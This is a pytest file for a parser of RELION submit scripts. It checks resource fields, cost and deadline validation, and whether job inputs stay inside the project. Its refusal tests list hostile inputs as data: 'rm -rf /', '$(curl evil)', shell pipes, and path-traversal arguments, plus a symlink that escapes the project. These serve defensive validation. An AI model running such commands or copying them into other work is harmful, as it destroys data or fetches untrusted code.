"""Reading RELION's run_submit.script and finding the project files a job reads.

The script text is what RELION 3.1's relion_pipeliner writes from
deploy/relion/cryomesh_submit.sh (checked on this machine; the end-to-end tests in
tests/test_relion_queue_e2e.py have RELION write it)."""

from __future__ import annotations

import re
from datetime import UTC, datetime
from pathlib import Path

import pytest

from cryomesh_cli.relion_inputs import OutsideProject, project_inputs, star_columns
from cryomesh_cli.relion_script import ScriptError, job_fields, parse

TEMPLATE = (Path(__file__).resolve().parents[2] / "deploy" / "relion" / "cryomesh_submit.sh").read_text()
COMMAND = (
    "`which relion_refine_mpi` --o Class2D/job003/run --i Extract/job002/particles.star --dont_combine_weights_via_disc "
    "--ref refs.mrcs --K 2 --j 2 --pipeline_control Class2D/job003/"
)


def rendered(command: str = COMMAND, **values: str) -> str:
    """The template filled in as RELION does it: plain replacement; placeholders without a value stay."""
    text = TEMPLATE
    for key, value in {"XXXqueueXXX": "osaka", "XXXmpinodesXXX": "3", "XXXthreadsXXX": "2", "XXXnameXXX": "Class2D/job003/",
                       "XXXextra1XXX": "a100", "XXXcommandXXX": command, **values}.items():  # fmt: skip
        text = text.replace(key, value)
    return text


def test_resources_target_and_commands_are_read() -> None:
    s = parse(rendered())
    assert (s.output_dir, s.kind, s.site, s.mpi_ranks, s.threads) == ("Class2D/job003", "relion.class2d", "osaka", 3, 2)
    assert s.fields["gpu_model"] == "a100" and s.fields["gpus"] == "", "an extra RELION did not fill is empty"
    [cmd] = s.commands
    assert cmd.program == "relion_refine_mpi" and cmd.mpi
    assert cmd.args[:4] == ["--o", "Class2D/job003/run", "--i", "Extract/job002/particles.star"]
    assert parse(rendered(XXXqueueXXX="auto")).site is None, "auto: the broker chooses"
    launched = parse(rendered(command="mpirun -n 3 " + COMMAND)).commands[0]
    assert launched.program == "relion_refine_mpi", "the site starts MPI its own way"


@pytest.mark.parametrize(
    ("command", "words"),
    [
        ("rm -rf /", "argument '/' leads outside the project"),
        (COMMAND + " | tee log", "needs a shell"),
        ("relion_refine --i particles.star > out", "needs a shell"),
        ("relion_refine --i /data/particles.star", "leads outside the project"),
        ("relion_refine --i ../other/particles.star", "leads outside the project"),
        ("$(curl evil)", "needs a shell"),
    ],
)
def test_what_is_not_a_plain_relion_command_is_refused(command: str, words: str) -> None:
    with pytest.raises(ScriptError, match=re.escape(words)):
        parse(rendered(command=command))


def test_a_program_other_than_relion_is_sent_by_name_for_the_site_to_decide() -> None:
    """Generic commands are not refused here: each site's policy says whether it runs them
    (site_agent/relion_site.py); the site runs its own install, so a path is dropped."""
    [relion, generic] = parse(rendered(command=COMMAND + "\n/usr/local/bin/ctffind4 --i Class2D/job003/run.star")).commands
    assert relion.relion and not generic.relion and not generic.mpi
    assert (generic.program, generic.args) == ("ctffind4", ["--i", "Class2D/job003/run.star"])


def test_max_cost_and_deadline_are_read_and_checked_before_anything_is_sent() -> None:
    now = datetime(2026, 12, 1, 12, 0, tzinfo=UTC)
    fields = job_fields(parse(rendered(XXXextra5XXX="250.5", XXXextra6XXX="2027-01-31T18:00+09:00")), now)
    assert fields["max_cost"] == 250.5 and fields["deadline"] == "2027-01-31T18:00:00+09:00"
    assert job_fields(parse(rendered(XXXextra6XXX="+12")), now)["deadline"] == "2026-12-02T00:00:00+00:00"
    assert "max_cost" not in job_fields(parse(rendered()), now), "a field left blank sets nothing"
    r = job_fields(parse(rendered(XXXextra2XXX="2", XXXextra3XXX="0.5", XXXextra4XXX="16")), now)["resources"]
    assert r == {"cpus": 6, "mpi_ranks": 3, "threads_per_rank": 2, "gpus": 2, "gpu_model": "a100", "memory_gb": 16.0,
                 "walltime_s": 1800}  # fmt: skip
    for values, words in [
        ({"XXXextra5XXX": "cheap"}, "#cryomesh max_cost: 'cheap' is not an amount"),
        ({"XXXextra5XXX": "-3"}, "#cryomesh max_cost: '-3' is not an amount"),
        ({"XXXextra5XXX": "nan"}, "#cryomesh max_cost: 'nan' is not an amount"),
        ({"XXXextra6XXX": "friday"}, "#cryomesh deadline: 'friday' is not +hours (e.g. +12) or a time like"),
        ({"XXXextra6XXX": "2027-01-31T18:00"}, "'2027-01-31T18:00' needs a time zone, e.g. 2027-01-31T18:00Z"),
        ({"XXXextra6XXX": "2026-11-30T00:00Z"}, "#cryomesh deadline: '2026-11-30T00:00Z' is already past"),
        ({"XXXextra4XXX": "0"}, "the job's resources: memory_gb: Input should be greater than 0"),
        ({"XXXextra2XXX": "two"}, "#cryomesh gpus: 'two' is not a whole number"),
    ]:
        with pytest.raises(ScriptError, match=re.escape(words)):
            job_fields(parse(rendered(**values)), now)


def test_unknown_job_types_and_missing_fields_are_refused() -> None:
    with pytest.raises(ScriptError, match="PostProcess jobs are not sent to the network"):
        parse(rendered(XXXnameXXX="PostProcess/job009/"))
    with pytest.raises(ScriptError, match="mpi_ranks: 'many' is not a whole number"):
        parse(rendered(XXXmpinodesXXX="many"))


PARTICLES = """
# version 30001

data_optics

loop_
_rlnOpticsGroup #1
_rlnImagePixelSize #2
_rlnMtfFileName #3
1 1.06 mtf_k3.star

data_particles

loop_
_rlnMicrographName #1
_rlnImageName #2
_rlnOpticsGroup #3
MotionCorr/job001/mic1.mrc 000001@Extract/job002/mic1.mrcs 1
MotionCorr/job001/mic1.mrc 000002@Extract/job002/mic1.mrcs 1
MotionCorr/job001/mic2.mrc 000001@Extract/job002/mic2.mrcs 1
"""


def _project(tmp_path: Path) -> Path:
    p = tmp_path / "project"
    for rel in ("Extract/job002/mic1.mrcs", "Extract/job002/mic2.mrcs", "MotionCorr/job001/mic1.mrc", "refs.mrcs"):
        (p / rel).parent.mkdir(parents=True, exist_ok=True)
        (p / rel).write_bytes(b"x")
    (p / "mtf_k3.star").write_text("data_\nloop_\n_rlnResolutionInversePixel #1\n_rlnMtfValue #2\n0 1\n")
    (p / "Extract/job002/particles.star").write_text(PARTICLES)
    return p


def test_inputs_follow_star_files_to_the_images_and_only_those(tmp_path: Path) -> None:
    p = _project(tmp_path)
    assert dict(star_columns(p / "Extract/job002/particles.star"))["_rlnImageName"][0] == "000001@Extract/job002/mic1.mrcs"
    found = project_inputs(p, parse(rendered()).commands, "Class2D/job003")
    assert found == ["Extract/job002/particles.star", "mtf_k3.star", "Extract/job002/mic1.mrcs",
                     "Extract/job002/mic2.mrcs", "refs.mrcs"]  # fmt: skip
    assert "MotionCorr/job001/mic1.mrc" not in found, "classification reads the particles, not their micrographs"


def test_a_star_file_naming_files_outside_the_project_is_refused(tmp_path: Path) -> None:
    p = _project(tmp_path)
    outside = tmp_path / "elsewhere.mrcs"
    outside.write_bytes(b"x")
    star = p / "Extract/job002/particles.star"
    star.write_text(PARTICLES.replace("000002@Extract/job002/mic1.mrcs", f"000002@{outside}"))
    with pytest.raises(OutsideProject, match=f"particles.star \\(_rlnImageName\\) names {outside}, which is outside"):
        project_inputs(p, parse(rendered()).commands, "Class2D/job003")
    # A link inside the project that leads out of it is outside too.
    star.write_text(PARTICLES)
    (p / "Extract/job002/mic2.mrcs").unlink()
    (p / "Extract/job002/mic2.mrcs").symlink_to(outside)
    with pytest.raises(OutsideProject, match=r"mic2\.mrcs, which is outside the project"):
        project_inputs(p, parse(rendered()).commands, "Class2D/job003")
